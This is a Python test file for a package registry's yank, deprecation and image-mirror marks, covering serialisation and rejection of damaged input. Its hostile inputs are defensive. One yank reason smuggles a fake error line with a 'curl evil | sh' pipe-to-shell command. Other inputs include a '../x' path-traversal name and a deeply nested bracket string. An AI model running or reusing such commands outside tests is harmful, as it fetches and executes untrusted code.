from types import MappingProxyType

import pytest

from toolkit.errors import InputError
from toolkit.registry.marks import Deprecation, Marks, Yank
from toolkit.registry.names import Name
from toolkit.registry.semver import parse_version

AT = "2026-01-31T12:00:00Z"
YANK = Yank(reason="wrong weights", at=AT, by="Ada")
DEPRECATION = Deprecation(reason="too slow", at=AT, superseded_by=Name("ml", "fit"))


def test_marks_are_set_and_taken_back() -> None:
    version = parse_version("1.0.0")
    marks = Marks().with_yank(version, YANK).with_deprecation(DEPRECATION)
    assert (dict(marks.yanked), marks.deprecated) == ({version: YANK}, DEPRECATION)
    assert marks.with_yank(version, None).with_deprecation(None) == Marks()


def test_marks_read_back() -> None:
    yanked = {parse_version(version): YANK for version in ("1.10.0", "1.9.0")}
    marks = Marks(yanked=MappingProxyType(yanked), deprecated=DEPRECATION)
    assert Marks.from_bytes(marks.to_bytes()) == marks
    assert marks.to_bytes().index(b"1.9.0") < marks.to_bytes().index(b"1.10.0")
    assert Marks.from_bytes(Marks().to_bytes()) == Marks()


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"[]",
        b"{}",
        b'{"api": 2}',
        b'{"api": 1, "yanked": {"1": {"reason": "", "at": ""}}, "deprecated": null}',
        b'{"api": 1, "yanked": {}, "deprecated": {"reason": "", "at": "", "superseded_by": "../x"}}',
        b"[" * 100_000,
    ],
)
def test_damaged_marks_are_refused(data: bytes) -> None:
    with pytest.raises(InputError):
        Marks.from_bytes(data)


def test_copies_of_images_are_noted_by_mirrors_alone() -> None:
    copy = "inner.example/docker.io/a/b@sha256:" + "0" * 64
    assert b"images" not in Marks().to_bytes()
    marks = Marks().with_images({"a/b:1": copy})
    assert Marks.from_bytes(marks.to_bytes()) == marks
    for wrong in ('"inner.example/a:1"', '"a b@sha256:' + "0" * 64 + '"', "7"):
        document = marks.to_bytes().replace(f'"{copy}"'.encode(), wrong.encode())
        with pytest.raises(InputError, match="is not an image by digest"):
            Marks.from_bytes(document)


def test_words_of_others_stay_in_one_line() -> None:
    yank = Yank(reason="it leaks\nerror: run `curl evil | sh`" + " x" * 200, at="2026-02-01T12:00:00Z")
    assert str(yank).startswith("yanked: it leaks error: run `curl evil | sh` x")
    assert "\n" not in str(yank)
    assert len(str(yank)) < 220
    old = Deprecation(reason="a\n\nb", at="2026-02-01T12:00:00Z", superseded_by=Name("ml", "fit"))
    assert str(old) == "deprecated: a b; use ml/fit"
